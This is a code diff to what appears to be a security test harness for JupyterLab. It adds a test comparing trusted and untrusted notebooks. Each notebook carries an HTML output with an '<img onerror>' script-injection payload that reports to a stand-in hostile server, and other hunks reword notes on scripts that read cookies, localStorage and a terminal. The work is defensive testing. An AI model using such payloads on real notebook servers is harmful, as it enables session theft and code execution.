@@ -146,6 +146,24 @@ def open_notebook(trial):
                "the picture is loaded, as in stock JupyterLab; the request has no `Referer` and no cookie")
 
 
+def trusted_notebook(trial):
+    """A script of an output that the user trusts: it shows that the attempts before would have been noticed."""
+    for name, is_trusted in (("untrusted", False), ("trusted", True)):
+        output = {"output_type": "display_data", "metadata": {},
+                  "data": {"text/html": f"<img src=x onerror=\"{attacks.script(name, trial.evil.url())}\">"}}
+        cell = {"cell_type": "code", "id": "a", "execution_count": 1, "metadata": {}, "source": name, "outputs": [output]}
+        content = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+        (trial.drive / f"{name}.ipynb").write_text(json.dumps(content))
+        if is_trusted:
+            trial.call("POST", f"api/contents/{name}.ipynb/trust")
+        with trial.page(f"{trial.url}lab/tree/{name}.ipynb") as page:
+            page.wait_for_selector(".jp-Notebook .jp-OutputArea-child", state="attached", timeout=60_000)
+            page.wait_for_timeout(3000)
+    own, _ = trial.scripts()
+    trial.note("for comparison, a script of a notebook that the user has trusted", own == ["trusted"],
+               "it runs with the page's rights, as in stock JupyterLab")
+
+
 def hostile_names(trial):
     """File names with HTML, in the file browser, the tab and the launcher."""
     with trial.page(f"{trial.url}lab/tree/{urllib.parse.quote(name_of(trial.evil))}") as page:
@@ -171,13 +189,13 @@ def files(trial):
                 pass
             own, other = trial.scripts()
             did = sorted({seen["what"] for seen, _ in trial.evil.take("/did") if seen["result"] not in ("refused", "0")})
-            how = f"its scripts ran {other} times without an origin" if other else "no script ran"
+            how = f"{other} ran, without an origin" if other else "none ran"
             trial.note(f"`/{folder}{name}` with scripts that read cookies, the interface, `localStorage` and a terminal",
-                       not own and not did and trial.state() == before, f"{how}; got {', '.join(did) or 'nothing'}")
+                       not own and not did and trial.state() == before, f"{how}; they got {', '.join(did) or 'nothing'}")
     with trial.page(f"{trial.url}nbconvert/html/exported.ipynb"):
         pass
     own, other = trial.scripts()
-    trial.note("`/nbconvert/html` of the notebook's outputs", not own and other > 0, f"{other} scripts ran, without an origin")
+    trial.note("`/nbconvert/html` of the notebook's outputs", not own and other > 0, f"{other} ran, without an origin")
     for factory in ("HTML Viewer", "Markdown Preview", "Image", "CSVTable"):
         name = {"HTML Viewer": "page.html", "Markdown Preview": "page.md", "Image": "page.svg", "CSVTable": "page.csv"}[factory]
         with trial.page(f"{trial.url}doc/tree/{name}?factory={urllib.parse.quote(factory)}") as page:
@@ -346,7 +364,7 @@ def main():
             trial.kernel = trial.call("POST", "api/kernels", {"name": "python3"})["id"]
             with trial.page(said["login_url"]) as page:
                 assert "/lab" in page.url, page.url
-            for attempt in (open_notebook, hostile_names, files, foreign_pages, theft, hosts_and_sessions):
+            for attempt in (open_notebook, hostile_names, files, foreign_pages, theft, hosts_and_sessions, trusted_notebook):
                 attempt(trial)
             version = browser.version
             browser.close()
